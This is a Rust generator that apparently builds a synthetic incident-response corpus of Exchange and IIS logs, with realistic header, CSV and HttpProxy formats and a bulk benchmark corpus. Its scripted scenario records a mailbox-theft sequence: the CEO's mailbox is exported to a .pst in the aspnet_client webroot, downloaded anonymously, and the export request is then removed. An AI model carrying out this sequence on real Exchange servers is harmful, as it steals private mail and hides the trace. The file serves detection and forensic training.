                    "/aspnet_client/discover.aspx",
                    Protocol::Owa,
                )
                .took(took);
                record_iis_only(case, &caller, &call);
            }
        }
        record_cmdlet(
            case,
            Host::A,
            march(5, 20, 5, 11, 418),
            "New-MailboxExportRequest",
            &[
                ("Mailbox", "ceo@corp.example.org"),
                (
                    "FilePath",
                    "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.pst",
                ),
            ],
        );
        let download = Call::new(
            march(5, 20, 31, 9, 655),
            Host::A,
            "GET",
            "/aspnet_client/ceo.pst",
            Protocol::Owa,
        )
        .took(187_344);
        record_iis_only(
            case,
            &Caller::anonymous(OPERATOR_IP, ATTACKER_BROWSER_UA),
            &download,
        );
        record_cmdlet(
            case,
            Host::A,
            march(5, 20, 33, 41, 207),
            "Remove-MailboxExportRequest",
            &[
                ("Identity", "ceo@corp.example.org\\MailboxExport"),
                ("Confirm", "False"),
            ],
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Rendering
// ---------------------------------------------------------------------------------------------

const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

const IIS_FIELDS: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";
const XFF_FIELD: &str = "X-Forwarded-For";
const HTTPERR_FIELDS: &str = "date time c-ip c-port s-ip s-port cs-version cs-method cs-uri sc-status s-siteid s-reason s-queuename";

const HTTPPROXY_FIELDS: [&str; 74] = [
    "DateTime",
    "RequestId",
    "MajorVersion",
    "MinorVersion",
    "BuildVersion",
    "RevisionVersion",
    "ClientRequestId",
    "Protocol",
    "UrlHost",
    "UrlStem",
    "ProtocolAction",
    "AuthenticationType",
    "IsAuthenticated",
    "AuthenticatedUser",
    "Organization",
    "AnchorMailbox",
    "UserAgent",
    "ClientIpAddress",
    "ServerHostName",
    "HttpStatus",
    "BackEndStatus",
    "ErrorCode",
    "Method",
    "ProxyAction",
    "TargetServer",
    "TargetServerVersion",
    "RoutingType",
    "RoutingHint",
    "BackEndCookie",
    "ServerLocatorHost",
    "ServerLocatorLatency",
    "RequestBytes",
    "ResponseBytes",
    "TargetOutstandingRequests",
    "AuthModulePerfContext",
    "HttpPipelineLatency",
    "CalculateTargetBackEndLatency",
    "GlsLatencyBreakup",
    "TotalGlsLatency",
    "AccountForestLatencyBreakup",
    "TotalAccountForestLatency",
    "ResourceForestLatencyBreakup",
    "TotalResourceForestLatency",
    "ADLatency",
    "SharedCacheLatencyBreakup",
    "TotalSharedCacheLatency",
    "ActivityContextLifeTime",
    "ModuleToHandlerSwitchingLatency",
    "ClientReqStreamLatency",
    "BackendReqInitLatency",
    "BackendReqStreamLatency",
    "BackendProcessingLatency",
    "BackendRespInitLatency",
    "BackendRespStreamLatency",
    "ClientRespStreamLatency",
    "KerberosAuthHeaderLatency",
    "HandlerCompletionLatency",
    "RequestHandlerLatency",
    "HandlerToModuleSwitchingLatency",
    "ProxyTime",
    "CoreLatency",
    "RoutingLatency",
    "HttpProxyOverhead",
    "TotalRequestTime",
    "RouteRefresherLatency",
    "UrlQuery",
    "BackEndGenericInfo",
    "GenericInfo",
    "GenericErrors",
    "EdgeTraceId",
    "DatabaseGuid",
    "UserADObjectGuid",
    "PartitionEndpointLookupLatency",
    "RoutingStatus",
];

/// IIS writes an empty value as `-` and a space inside a value as `+`.
fn w3c_value(value: &str) -> String {
    if value.is_empty() {
        "-".to_string()
    } else {
        value.replace(' ', "+")
    }
}

fn render_iis(record: &IisRecord, with_forwarded_for: bool) -> String {
    let s = record.status;
    let mut line = format!(
        "{} {} {} {} {} {} {} {} {} {} {} {} {} {}",
        Stamp::of(record.end).w3c(),
        record.server_ip,
        record.method,
        record.stem,
        w3c_value(&record.query),
        record.port,
        w3c_value(&record.user),
        record.client_ip,
        w3c_value(&record.user_agent),
        w3c_value(&record.referer),
        s.code,
        s.sub,
        s.win32,
        record.time_taken
    );
    if with_forwarded_for {
        line.push(' ');
        line.push_str(&w3c_value(&record.forwarded_for));
    }
    line
}

fn iis_header(date: &str, fields: &str) -> [String; 4] {
    [
        "#Software: Microsoft Internet Information Services 10.0".to_string(),
        "#Version: 1.0".to_string(),
        format!("#Date: {date}"),
        format!("#Fields: {fields}"),
    ]
}

/// RFC 4180 quoting, as Exchange's CSV logs do it: only when needed.
fn csv_value(value: &str) -> String {
    if value.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

/// `Export-Csv` quotes every field.
fn csv_quoted(value: &str) -> String {
    format!("\"{}\"", value.replace('"', "\"\""))
}

/// The 74 HttpProxy columns, set by name.
struct Columns(Vec<String>);

impl Columns {
    fn new() -> Self {
        Self(vec![String::new(); HTTPPROXY_FIELDS.len()])
    }

    fn set(&mut self, name: &str, value: impl ToString) {
        debug_assert!(
            HTTPPROXY_FIELDS.contains(&name),
            "unknown HttpProxy column {name}"
        );
        if let Some(i) = HTTPPROXY_FIELDS.iter().position(|field| *field == name) {
            self.0[i] = value.to_string();
        }
    }

    fn join(&self) -> String {
        self.0
            .iter()
            .map(|v| csv_value(v))
            .collect::<Vec<_>>()
            .join(",")
    }
}

fn render_proxy_row(row: &ProxyRow) -> String {
    let mut c = Columns::new();
    let end = Stamp::of(row.end).iso_millis();
    let begin = |offset: u32| {
        Stamp::of(row.end - Millis::from(row.time_taken) + Millis::from(offset)).iso_millis()
    };
    c.set("DateTime", &end);
    c.set("RequestId", &row.request_id);
    for (name, value) in [
        "MajorVersion",
        "MinorVersion",
        "BuildVersion",
        "RevisionVersion",
    ]
    .iter()
    .zip(BUILD_DOTTED.split('.'))
    {
        c.set(name, value);
    }
    c.set("ClientRequestId", &row.client_request_id);
    c.set("Protocol", row.protocol.name());
    c.set("UrlHost", &row.url_host);
    c.set("UrlStem", &row.url_stem);
    c.set("ProtocolAction", &row.protocol_action);
    c.set("AuthenticationType", row.auth_kind);
    c.set("IsAuthenticated", !row.authenticated_user.is_empty());
    c.set("AuthenticatedUser", &row.authenticated_user);
    c.set("AnchorMailbox", &row.anchor);
    // HttpProxy turns the commas of a user agent into spaces (§4.3).
    c.set("UserAgent", row.user_agent.replace(',', " "));
    c.set("ClientIpAddress", &row.client_ip);
    c.set("ServerHostName", row.server.name());
    c.set("HttpStatus", row.status);
    c.set("Method", row.method);
    c.set("UrlQuery", &row.url_query);
    match &row.handling {
        Handling::Local { note } => {
            c.set("RequestBytes", 0);
            for name in [
                "ActivityContextLifeTime",
                "CoreLatency",
                "HttpProxyOverhead",
                "TotalRequestTime",
            ] {
                c.set(name, 0);
            }
            c.set("GenericInfo", format!("BeginRequest={};CorrelationID=<empty>;SharedCacheGuard=0;{note}EndRequest={end};", begin(0)));
        }
        Handling::Proxied(leg) => {
            let total = row.time_taken;
            c.set("BackEndStatus", leg.backend_status);
            c.set("ProxyAction", "Proxy");
            c.set("TargetServer", &leg.target_server);
            c.set("TargetServerVersion", leg.target_version);
            c.set("RoutingType", "IntraForest");
            c.set("RoutingHint", leg.routing_hint);
            c.set("RequestBytes", leg.request_bytes);
            c.set("ResponseBytes", leg.response_bytes);
            for (name, value) in [
                ("HttpPipelineLatency", 0),
                ("CalculateTargetBackEndLatency", 1),
                ("TotalGlsLatency", 0),
                ("TotalAccountForestLatency", 0),
                ("TotalResourceForestLatency", 0),
                ("ADLatency", 0),
                ("TotalSharedCacheLatency", 0),
                ("ActivityContextLifeTime", total),
                ("ModuleToHandlerSwitchingLatency", 0),
                ("ClientReqStreamLatency", 0),
                ("BackendReqInitLatency", 1),
                ("BackendReqStreamLatency", 0),
                ("BackendProcessingLatency", leg.backend_ms),
                ("BackendRespInitLatency", 0),
                ("BackendRespStreamLatency", 0),
                ("ClientRespStreamLatency", 0),
                ("HandlerCompletionLatency", 0),
                ("RequestHandlerLatency", total),
                ("HandlerToModuleSwitchingLatency", 0),
                ("ProxyTime", total.saturating_sub(4)),
                ("CoreLatency", 3),
                ("RoutingLatency", 1),
                ("HttpProxyOverhead", 4),
                ("TotalRequestTime", total),
            ] {
                c.set(name, value);
            }
            // Only requests with a body open a request stream.
            let stream = if row.method == "GET" {
                String::new()
            } else {
                let at = begin(leg.stream_ms);
                format!("BeginGetRequestStream={at};OnRequestStreamReady={at};")
            };
            let response_ready = Stamp::of(row.end - 1).iso_millis();
            c.set(
                "GenericInfo",
                format!(
                    "BeginRequest={};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-{BE_VERSION};{stream}BeginGetResponse={};OnResponseReady={response_ready};EndGetResponse={response_ready};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest={end};",
                    begin(0),
                    begin(leg.stream_ms + 1)
                ),
            );
            if !leg.database.is_empty() {
                c.set("DatabaseGuid", format!("|RoutingDB:{}", leg.database));
            }
            c.set("RoutingStatus", "CafeV1");
        }
    }
    c.join()
}

fn render_ecp(record: &EcpRecord) -> String {
    format!(
        "{},{},ECP.Request,{}",
        Stamp::of(record.at).iso_millis(),
        record.server.name(),
        csv_value(&record.event_data)
    )
}

fn render_oab(record: &OabRecord) -> String {
    format!(
        "{},{},{},{}",
        Stamp::of(record.at).iso_millis(),
        record.server.name(),
        record.level,
        csv_value(&record.message)
    )
}

fn render_event(event: &ManagementEvent) -> String {
    [
        Stamp::of(event.at).event(),
        event.id.to_string(),
        event.level.to_string(),
        "MSExchange CmdletLogs".to_string(),
        "MSExchange Management".to_string(),
        event.server.fqdn().to_string(),
        event.message.clone(),
    ]
    .iter()
    .map(|v| csv_quoted(v))
    .collect::<Vec<_>>()
    .join(",")
}

// ---------------------------------------------------------------------------------------------
// Writing the sample collection
// ---------------------------------------------------------------------------------------------

/// A file assembled in memory with CRLF line ends (the sample is only a few MB).
struct Text(Vec<u8>);

impl Text {
    fn plain() -> Self {
        Self(Vec::new())
    }

    fn with_bom() -> Self {
        Self(UTF8_BOM.to_vec())
    }

    fn line(&mut self, line: &str) {
        self.0.extend_from_slice(line.as_bytes());
        self.0.extend_from_slice(b"\r\n");
    }
}

fn count_lines(bytes: &[u8]) -> u64 {
    let terminated = bytes.iter().filter(|b| **b == b'\n').count() as u64;
    terminated + u64::from(bytes.last().is_some_and(|b| *b != b'\n'))
}

struct Output {
    root: PathBuf,
    summary: GenSummary,
}

impl Output {
    fn new(root: &Path) -> Self {
        Self {
            root: root.to_path_buf(),
            summary: GenSummary::default(),
        }
    }

    fn write(&mut self, relative: &str, text: &Text) -> io::Result<()> {
        let path = self.root.join(relative);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent)?;
        }
        fs::write(&path, &text.0)?;
        self.summary
            .files
            .push((path, count_lines(&text.0), text.0.len() as u64));
        Ok(())
    }
}

/// Stable sort by time: records with the same time keep their generation order.
fn sorted_by<T: Clone>(records: &[T], key: impl Fn(&T) -> Millis) -> Vec<T> {
    let mut sorted = records.to_vec();
    sorted.sort_by_key(|r| key(r));
    sorted
}

fn on_day<T>(records: &[T], day: Millis, key: impl Fn(&T) -> Millis) -> impl Iterator<Item = &T> {
    records
        .iter()
        .filter(move |r| (day..day + DAY).contains(&key(r)))
}

fn write_server(output: &mut Output, case: &Case, host: Host) -> io::Result<()> {
    let logs = &case.servers[host.index()];
    let name = host.name();
    let front_end = sorted_by(&logs.front_end, |r| r.end);
    let back_end = sorted_by(&logs.back_end, |r| r.end);
    let proxy = sorted_by(&logs.proxy, |r| r.end);
    let ecp = sorted_by(&logs.ecp, |r| r.at);
    let oab = sorted_by(&logs.oab, |r| r.at);
    for day_index in 0..CASE_DAYS {
        let day = case_day_start(day_index);
        let stamp = Stamp::of(day);
        let torn = if host == Host::A && day_index == CASE_DAYS - 1 {
            case.torn_line.as_ref()
        } else {
            None
        };
        let site1 = iis_day_file(host, on_day(&front_end, day, |r| r.end), day, true, torn);
        // IIS names its files `_x` once a custom field (X-Forwarded-For) is configured.
        let custom = if host.logs_forwarded_for() { "_x" } else { "" };
        output.write(
            &format!(
                "{name}/inetpub/logs/LogFiles/W3SVC1/u_ex{}{custom}.log",
                stamp.yymmdd()
            ),
            &site1,
        )?;
        let site2 = iis_day_file(host, on_day(&back_end, day, |r| r.end), day, false, None);
        output.write(
            &format!(
                "{name}/inetpub/logs/LogFiles/W3SVC2/u_ex{}.log",
                stamp.yymmdd()
            ),
            &site2,
        )?;
        for protocol in Protocol::ALL {
            let rows: Vec<&ProxyRow> = on_day(&proxy, day, |r| r.end)
                .filter(|r| r.protocol == protocol)
                .collect();
            if let Some(text) = httpproxy_file(&rows) {
                let file = format!(
                    "{name}/Logging/HttpProxy/{}/HttpProxy_{}00-1.LOG",
                    protocol.name(),
                    stamp.yyyymmdd()
                );
                output.write(&file, &text)?;
            }
        }
        let ecp_lines: Vec<&EcpRecord> = on_day(&ecp, day, |r| r.at).collect();
        if let Some(text) = ecp_file(&ecp_lines) {
            output.write(
                &format!(
                    "{name}/Logging/ECP/Server/ECPServer{}-1.LOG",
                    stamp.yyyymmdd()
                ),
                &text,
            )?;
        }
        let oab_lines: Vec<&OabRecord> = on_day(&oab, day, |r| r.at).collect();
        if let Some(text) = oab_file(&oab_lines) {
            output.write(
                &format!(
                    "{name}/Logging/OABGeneratorLog/OABGenerator_{}-1.LOG",
                    stamp.yyyymmdd()
                ),
                &text,
            )?;
        }
    }
    // The branch office's collection holds its IIS and HttpProxy logs only.
    if !Host::ALL.contains(&host) {
        return Ok(());
    }
    output.write(
        &format!("{name}/HTTPERR/httperr1.log"),
        &httperr_file(&sorted_by(&logs.httperr, |r| r.at)),
    )?;
    output.write(
        &format!("{name}/EventLogs/MSExchangeManagement.csv"),
        &events_file(&logs.events),
    )
}

/// One day of one IIS site. On MBX-A on the patch day the header block is written again at
/// the restart, and W3SVC1 gains the `X-Forwarded-For` custom field from then on.
fn iis_day_file<'a>(
    host: Host,
    records: impl Iterator<Item = &'a IisRecord>,
    day: Millis,
    front_end: bool,
    torn: Option<&IisRecord>,
) -> Text {
    let mut text = Text::plain();
    let restart =
        (host == Host::A && (day..day + DAY).contains(&PATCH_RESTART)).then_some(PATCH_RESTART);
    let forwarded = front_end && host.logs_forwarded_for();
    let fields = if forwarded {
        format!("{IIS_FIELDS} {XFF_FIELD}")
    } else {
        IIS_FIELDS.to_string()
    };
    for line in iis_header(&Stamp::of(day).w3c(), &fields) {
        text.line(&line);
    }
    let mut restarted = forwarded;
    for record in records {
        if let Some(at) = restart.filter(|at| !restarted && record.end >= *at) {
            let fields = if front_end {
                format!("{IIS_FIELDS} {XFF_FIELD}")
            } else {
                IIS_FIELDS.to_string()
            };
            for line in iis_header(&Stamp::of(at).w3c(), &fields) {
                text.line(&line);
            }
            restarted = true;
        }
        text.line(&render_iis(record, restarted && front_end));
    }
    if let Some(record) = torn {
        let full = render_iis(record, restarted && front_end);
        let agent = w3c_value(&record.user_agent);
        // Cut 30 bytes into the user agent, as a power loss would.
        let cut = full
            .find(&agent)
            .map_or(full.len(), |start| start + 30.min(agent.len()));
        text.0.extend_from_slice(&full.as_bytes()[..cut]);
    }
    text
}

fn httpproxy_file(rows: &[&ProxyRow]) -> Option<Text> {
    let first = rows.first()?;
    let fields = HTTPPROXY_FIELDS.join(",");
    let mut text = Text::with_bom();
    text.line(&fields);
    for line in [
        "#Software: Microsoft Exchange Server".to_string(),
        format!("#Version: {BUILD_DIRECTIVE}"),
        "#Log-type: HttpProxy Logs".to_string(),
        format!("#Date: {}", Stamp::of(first.end).iso_millis()),
        format!("#Fields: {fields}"),
    ] {
        text.line(&line);
    }
    for row in rows {
        text.line(&render_proxy_row(row));
    }
    Some(text)
}

fn exchange_directives(version: &str, log_type: &str, first: Millis, fields: &str) -> [String; 5] {
    [
        "#Software: Microsoft Exchange Server".to_string(),
        format!("#Version: {version}"),
        format!("#Log-type: {log_type}"),
        format!("#Date: {}", Stamp::of(first).iso_millis()),
        format!("#Fields: {fields}"),
    ]
}

fn ecp_file(lines: &[&EcpRecord]) -> Option<Text> {
    let first = lines.first()?;
    let mut text = Text::with_bom();
    for line in exchange_directives(
        "15.0.0.0",
        "ECP Server Log",
        first.at,
        "TimeStamp,ServerName,EventId,EventData",
    ) {
        text.line(&line);
    }
    for line in lines {
        text.line(&render_ecp(line));
    }
    Some(text)
}

fn oab_file(lines: &[&OabRecord]) -> Option<Text> {
    let first = lines.first()?;
    let mut text = Text::with_bom();
    for line in exchange_directives(
        BUILD_DIRECTIVE,
        "OAB Generator Log",
        first.at,
        "DateTime,ServerName,Level,Message",
    ) {
        text.line(&line);
    }
    for line in lines {
        text.line(&render_oab(line));
    }
    Some(text)
}

fn httperr_file(records: &[HttpErrRecord]) -> Text {
    let mut text = Text::plain();
    let opened = records.first().map_or(case_day_start(0), |r| r.at);
    for line in [
        "#Software: Microsoft HTTP API 2.0".to_string(),
        "#Version: 1.0".to_string(),
        format!("#Date: {}", Stamp::of(opened).w3c()),
        format!("#Fields: {HTTPERR_FIELDS}"),
    ] {
        text.line(&line);
    }
    for record in records {
        text.line(&format!("{} {}", Stamp::of(record.at).w3c(), record.rest));
    }
    text
}

/// Get-WinEvent returns the newest event first, and Export-Csv keeps that order.
fn events_file(events: &[ManagementEvent]) -> Text {
    let mut newest_first = events.to_vec();
    newest_first.sort_by_key(|e| std::cmp::Reverse(e.at));
    let mut text = Text::with_bom();
    text.line("\"TimeCreated\",\"Id\",\"LevelDisplayName\",\"ProviderName\",\"LogName\",\"MachineName\",\"Message\"");
    for event in &newest_first {
        text.line(&render_event(event));
    }
    text
}

// ---------------------------------------------------------------------------------------------
// Bench corpus
// ---------------------------------------------------------------------------------------------

mod bench {
    //! A streaming IIS-only corpus. Lines are assembled byte by byte into one reused buffer:
    //! no per-field allocation or formatting machinery in the hot loop.

    use super::*;

    const FIRST_DAY: i64 = days_from_civil(2024, 3, 4);
    const SERVER_IP: &[u8] = b"172.16.9.31";
    const CLIENTS: usize = 2_900;
    /// Flush the line buffer to the file past this size.
    const CHUNK: usize = 1 << 20;
    const ATTACKER_IPS: [&str; 3] = ["185.220.101.47", "198.51.100.144", "203.0.113.77"];

    #[derive(Clone, Copy)]
    enum Kind {
        Outlook,
        Phone,
        Browser,
    }

    struct Client {
        kind: Kind,
        ip: String,
        user: String,
        /// IIS form (`+` for spaces).
        agent: String,
        /// `MailboxId=<guid>@corp.example.org` or the ActiveSync user/device part.
        mailbox_query: String,
    }

    fn population(rng: &mut Rng) -> Vec<Client> {
        (0..CLIENTS)
            .map(|rank| {
                // Every 11th rank from the 5th on is IPv6: ~9% of clients and of traffic.
                let ip = if rank % 11 == 5 {
                    format!(
                        "2001:db8:{:x}:{:x}::{:x}",
                        0x100 + rank / 256,
                        rank % 256,
                        rng.range(2, 0xfff)
                    )
                } else if rank % 7 == 3 {
                    // Remote clients, from the benchmarking range so no address repeats.
                    format!("198.18.{}.{}", rank / 250, 1 + rank % 250)
                } else {
                    format!("172.16.{}.{}", 30 + rank / 250, 1 + rank % 250)
                };
                let kind = match rank % 10 {
                    0..=6 => Kind::Outlook,
                    7 | 8 => Kind::Phone,
                    _ => Kind::Browser,
                };
                let sam = bench_account(rank);
                let (agent, mailbox_query) = match kind {
                    Kind::Outlook => (
                        OUTLOOK_UA.replace(' ', "+"),
                        format!("MailboxId={}@{DOMAIN}", rng.guid()),
                    ),
                    Kind::Phone => {
                        let (device_type, agent) = MOBILE_DEVICES[rank % MOBILE_DEVICES.len()];
                        (
                            agent.replace(' ', "+"),
                            format!(
                                "User={sam}&DeviceId={}&DeviceType={device_type}",
                                rng.hex(32, true)
                            ),
                        )
                    }
                    Kind::Browser => (
                        BROWSER_UAS[rank % BROWSER_UAS.len()].replace(' ', "+"),
                        String::new(),
                    ),
                };
                Client {
                    kind,
                    ip,
                    user: format!("EXAMPLE\\{sam}"),
                    agent,
                    mailbox_query,
                }
            })
            .collect()
    }

    /// `initial.surname`, with a number once the 26 × 40 combinations run out: unique per rank.
    fn bench_account(rank: usize) -> String {
        let initial = char::from(b'a' + (rank % 26) as u8);
        let surname = EMPLOYEES[rank / 26 % EMPLOYEES.len()]
            .split('.')
            .nth(1)
            .unwrap_or("user");
        match rank / (26 * EMPLOYEES.len()) {
            0 => format!("{initial}.{surname}"),
            n => format!("{initial}.{surname}{}", n + 1),
        }
    }

    /// Lines per day: weekdays weigh 10, weekend days 3; the remainder goes to the first days.
    fn lines_per_day(lines: u64, days: u32) -> Vec<u64> {
        let weights: Vec<u64> = (0..i64::from(days))
            .map(|d| {
                if weekday((FIRST_DAY + d) * DAY) >= 5 {
                    3
                } else {
                    10
                }
            })
            .collect();
        let total: u64 = weights.iter().sum();
        let mut counts: Vec<u64> = weights
            .iter()
            .map(|w| (u128::from(lines) * u128::from(*w) / u128::from(total.max(1))) as u64)
            .collect();
        // Fewer than `days` lines are missing after flooring.
        let missing = (lines - counts.iter().sum::<u64>()) as usize;
        for count in counts.iter_mut().take(missing) {
            *count += 1;
        }
        counts
    }

    pub(super) fn write(out: &Path, opts: &BenchOptions) -> io::Result<GenSummary> {
        if opts.days == 0 && opts.lines > 0 {
            return Err(io::Error::new(
                io::ErrorKind::InvalidInput,
                "a bench corpus with lines needs at least one day",
            ));
        }
        let dir = out.join("BENCH-1/inetpub/logs/LogFiles/W3SVC1");
        fs::create_dir_all(&dir)?;
        let mut rng = Rng::new(opts.seed);
        let clients = population(&mut rng);
        let mut summary = GenSummary::default();
        for (index, count) in lines_per_day(opts.lines, opts.days).into_iter().enumerate() {
            let day = (FIRST_DAY + index as i64) * DAY;
            let path = dir.join(format!("u_ex{}.log", Stamp::of(day).yymmdd()));
            let bytes = write_day(&path, day, count, &clients, &mut rng)?;
            summary.files.push((path, count + 4, bytes));
        }
        Ok(summary)
    }

    fn write_day(
        path: &Path,
        day: Millis,
        lines: u64,
        clients: &[Client],
        rng: &mut Rng,
    ) -> io::Result<u64> {
        let mut file = File::create(path)?;
        let mut buf: Vec<u8> = Vec::with_capacity(CHUNK + 4096);
        let date = Stamp::of(day).date();
        for line in iis_header(&format!("{date} 00:00:00"), IIS_FIELDS) {
            buf.extend_from_slice(line.as_bytes());
            buf.extend_from_slice(b"\r\n");
        }
        let mut written = 0u64;
        let hour_total: u64 = HOUR_WEIGHTS.iter().map(|w| u64::from(*w)).sum();
        let mut assigned = 0u64;
        let mut cumulative = 0u64;
        for (hour, weight) in HOUR_WEIGHTS.iter().enumerate() {
            // Cumulative rounding so the hours add up to exactly `lines`.
            cumulative += u64::from(*weight);
            let upto = (u128::from(lines) * u128::from(cumulative) / u128::from(hour_total)) as u64;
            let in_hour = upto - assigned;
            assigned = upto;
            for j in 0..in_hour {
                // Evenly spread with jitter inside each slot: times never go backwards.
                let offset = (u128::from(j) * HOUR as u128 + u128::from(rng.below(HOUR as u64)))
                    / u128::from(in_hour);
                let second_of_day = hour as u64 * 3600 + (offset as u64) / 1000;
                write_line(&mut buf, date.as_bytes(), second_of_day, clients, rng);
                if buf.len() >= CHUNK {
                    file.write_all(&buf)?;
                    written += buf.len() as u64;
                    buf.clear();
                }
            }
        }
        file.write_all(&buf)?;
        written += buf.len() as u64;
        file.flush()?;
        Ok(written)
    }

    fn push_number(buf: &mut Vec<u8>, mut n: u64) {
        let mut digits = [0u8; 20];
        let mut i = digits.len();
        loop {
            i -= 1;
            digits[i] = b'0' + (n % 10) as u8;
            n /= 10;
            if n == 0 {
                break;
            }
        }
        buf.extend_from_slice(&digits[i..]);
    }

    fn push_two(buf: &mut Vec<u8>, n: u64) {
        buf.push(b'0' + (n / 10) as u8);
        buf.push(b'0' + (n % 10) as u8);
    }

    fn push_guid(buf: &mut Vec<u8>, rng: &mut Rng) {
        const HEX: &[u8; 16] = b"0123456789abcdef";
        let hi = (rng.next_u64() & 0xFFFF_FFFF_FFFF_0FFF) | 0x4000;
        let lo = (rng.next_u64() & 0x3FFF_FFFF_FFFF_FFFF) | 0x8000_0000_0000_0000;
        for (i, shift) in (0..16).rev().enumerate() {
            if i == 8 || i == 12 {
                buf.push(b'-');
            }
            buf.push(HEX[((hi >> (shift * 4)) & 0xF) as usize]);
        }
        for (i, shift) in (0..16).rev().enumerate() {
            if i == 0 || i == 4 {
                buf.push(b'-');
            }
            buf.push(HEX[((lo >> (shift * 4)) & 0xF) as usize]);
        }
    }

    /// `&CorrelationID=<empty>;&cafeReqId=<guid>;` after an optional client query.
    fn push_exchange_query(buf: &mut Vec<u8>, query: &[u8], rng: &mut Rng, owa: bool) {
        buf.extend_from_slice(query);
        buf.extend_from_slice(b"&CorrelationID=<empty>;&cafeReqId=");
        push_guid(buf, rng);
        buf.push(b';');
        if owa {
            buf.extend_from_slice(b"&encoding=;");
        }
    }

    /// The variable part of a line, between the prefix and the status.
    struct Shape<'a> {
        method: &'a [u8],
        stem: &'a [u8],
        /// Written before `exchange_query` (the ActiveSync command).
        query_head: &'a [u8],
        /// None: IIS served it alone (`-`); Some: Exchange appended its query to this.
        exchange_query: Option<&'a [u8]>,
        owa: bool,
        user: &'a [u8],
        ip: &'a [u8],
        agent: &'a [u8],
        referer: &'a [u8],
        status: Status,
        took: u64,
    }

    fn write_line(
        buf: &mut Vec<u8>,
        date: &[u8],
        second_of_day: u64,
        clients: &[Client],
        rng: &mut Rng,
    ) {
        buf.extend_from_slice(date);
        buf.push(b' ');
        push_two(buf, second_of_day / 3600);
        buf.push(b':');
        push_two(buf, second_of_day / 60 % 60);
        buf.push(b':');
        push_two(buf, second_of_day % 60);
        buf.push(b' ');
        buf.extend_from_slice(SERVER_IP);
        buf.push(b' ');
        let roll = rng.below(10_000);
        if roll == 0 {
            attacker_line(buf, rng);
        } else if roll <= 1_600 {
            noise_line(buf, rng);
        } else {
            client_line(buf, clients, rng);
        }
        buf.extend_from_slice(b"\r\n");
    }

    fn push_shape(buf: &mut Vec<u8>, shape: &Shape, rng: &mut Rng) {
        buf.extend_from_slice(shape.method);
        buf.push(b' ');
        buf.extend_from_slice(shape.stem);
        buf.push(b' ');
        match shape.exchange_query {
            Some(query) => {
                buf.extend_from_slice(shape.query_head);
                push_exchange_query(buf, query, rng, shape.owa);
            }
            None => buf.push(b'-'),
        }
        buf.extend_from_slice(b" 443 ");
        buf.extend_from_slice(if shape.user.is_empty() {
            b"-"
        } else {
            shape.user
        });
        buf.push(b' ');
        buf.extend_from_slice(shape.ip);
        buf.push(b' ');
        buf.extend_from_slice(if shape.agent.is_empty() {
            b"-"
        } else {
            shape.agent
        });
        buf.push(b' ');
        buf.extend_from_slice(if shape.referer.is_empty() {
            b"-"
        } else {
            shape.referer
        });
        buf.push(b' ');
        push_number(buf, u64::from(shape.status.code));
        buf.push(b' ');
        push_number(buf, u64::from(shape.status.sub));
        buf.push(b' ');
        push_number(buf, u64::from(shape.status.win32));
        buf.push(b' ');
        push_number(buf, shape.took);
    }

    /// Zipf-like choice: the cube of a uniform draw piles up on the first ranks.
    fn pick_client<'a>(clients: &'a [Client], rng: &mut Rng) -> &'a Client {
        let u = (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        let rank = (u * u * u * clients.len() as f64) as usize;
        &clients[rank.min(clients.len() - 1)]
    }

    fn client_line(buf: &mut Vec<u8>, clients: &[Client], rng: &mut Rng) {
        let client = pick_client(clients, rng);
        let mut shape = Shape {
            method: b"POST",
            stem: b"/mapi/emsmdb/",
            query_head: b"",
            exchange_query: Some(client.mailbox_query.as_bytes()),
            owa: false,
            user: client.user.as_bytes(),
            ip: client.ip.as_bytes(),
            agent: client.agent.as_bytes(),
            referer: b"",
            status: OK,
            took: rng.range(12, 420),
        };
        match client.kind {
            Kind::Outlook => match rng.below(20) {
                0..=10 => {}
                11 | 12 => shape.stem = b"/mapi/nspi/",
                13..=15 => {
                    shape.stem = b"/EWS/Exchange.asmx";
                    shape.exchange_query = Some(b"");
                }
                16 | 17 => {
                    shape.stem = b"/Autodiscover/Autodiscover.xml";
                    shape.exchange_query = Some(b"");
                }
                18 => {
                    shape.method = b"GET";
                    shape.stem = b"/OAB/9b7a6c1e-2f4d-4e3a-8c5b-1d0e7f6a5b4c/oab.xml";
                    shape.exchange_query = Some(b"");
                }
                _ => {
                    // The Negotiate challenge before authentication.
                    shape.user = b"";
                    shape.status = CHALLENGE;
                    shape.took = rng.below(15);
                }
            },
            Kind::Phone => {
                shape.stem = b"/Microsoft-Server-ActiveSync/default.eas";
                // Cmd first, then the client's User/DeviceId/DeviceType part.
                (shape.query_head, shape.took) = match rng.below(10) {
                    0..=5 => (b"Cmd=Ping&".as_slice(), rng.range(470_000, 900_000)),
                    6..=8 => (b"Cmd=Sync&".as_slice(), rng.range(40, 600)),
                    _ => (b"Cmd=FolderSync&".as_slice(), rng.range(40, 300)),
                };
            }
            Kind::Browser => match rng.below(10) {
                0..=5 => {
                    shape.stem = b"/owa/service.svc";
                    shape.exchange_query = Some(b"action=GetItem&EP=1&ID=-14&AC=1");
                    shape.owa = true;
                    shape.referer = b"https://mail.example.org/owa/";
                }
                6 | 7 => {
                    shape.stem = b"/owa/ev.owa2";
                    shape.exchange_query =
                        Some(b"ns=PendingRequest&ev=PendingNotificationRequest&UA=0");
                    shape.owa = true;
                    shape.referer = b"https://mail.example.org/owa/";
                    shape.took = rng.range(30_000, 60_000);
                }
                _ => {
                    shape.method = b"GET";
                    shape.stem = b"/owa/prem/15.2.792.3/scripts/boot.worldwide.0.mouse.js";
                    shape.exchange_query = None;
                    shape.user = b"";
                    shape.referer = b"https://mail.example.org/owa/";
                    shape.took = rng.below(40);
                }
            },
        }
        push_shape(buf, &shape, rng);
    }

    const HEALTH_USER: &[u8] = b"HealthMailbox4f0c2a9e81d34b7c9e5a06b1d2c3f478@corp.example.org";

    /// Load balancer, Managed Availability, scanners and 404s: ~16% of lines.
